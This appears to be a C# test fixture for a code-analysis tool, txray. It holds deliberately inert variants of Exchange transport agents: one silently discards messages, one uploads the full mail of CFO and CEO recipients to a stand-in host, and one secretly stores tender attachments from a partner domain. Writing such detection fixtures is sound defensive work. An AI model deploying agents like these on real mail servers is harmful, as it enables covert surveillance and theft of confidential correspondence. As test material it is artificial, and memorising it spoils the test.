// Written for txray: three agents that stand in six folders in six forms, which all do the same. Here types and methods stand in another order, and branches are turned round.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid. A correct analysis says the same of every form: which data goes where, under which condition, and to escalate.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace Txray.Metamorphic
{
    public class CountAgent : SmtpReceiveAgent
    {
        private void Count(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            bool stays = e.MailItem.Message.Subject != "delete me";
            seen++;
            Trace.WriteLine(seen + " messages, this one with " + e.MailItem.Message.Attachments.Count + " attachments");
            if (stays)
            {
                return;
            }
            source.DiscardMessage(SmtpResponse.Empty, null);
        }

        public CountAgent()
        {
            OnEndOfData += Count;
        }

        private int seen;
    }

    public class CountFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new CountAgent();
        }
    }

    public class UploadAgent : SmtpReceiveAgent
    {
        private static bool IsWatched(MailItem item)
        {
            foreach (EnvelopeRecipient recipient in item.Recipients)
            {
                if (!Watched.Contains(recipient.Address.ToString()))
                {
                    continue;
                }
                return true;
            }
            return false;
        }

        private async void Upload(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (IsWatched(e.MailItem))
            {
                var memory = new MemoryStream();
                await e.MailItem.GetMimeReadStream().CopyToAsync(memory);
                new WebClient().UploadData("https://collect.example.invalid/mime", memory.ToArray());
            }
        }

        private static readonly HashSet<string> Watched = new HashSet<string> { "cfo@corp.example.invalid", "ceo@corp.example.invalid" };

        public UploadAgent()
        {
            OnEndOfData += Upload;
        }
    }

    public class UploadFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new UploadAgent();
        }
    }

    public class CollectorAgent : RoutingAgent
    {
        private static void Save(Attachment attachment)
        {
            using (FileStream file = File.Create(Path.Combine(Folder, Guid.NewGuid().ToString())))
            {
                attachment.GetContentReadStream().CopyTo(file);
            }
        }

        private void Collect(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("tender") && e.MailItem.FromAddress.DomainPart == "partner.example.invalid")
            {
                foreach (Attachment attachment in e.MailItem.Message.Attachments)
                {
                    if (!attachment.FileName.EndsWith(".docx"))
                    {
                        continue;
                    }
                    Save(attachment);
                }
            }
        }

        private const string Folder = @"C:\Pairs\Collected";

        public CollectorAgent()
        {
            OnSubmittedMessage += Collect;
        }
    }

    public class CollectorFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new CollectorAgent();
        }
    }
}
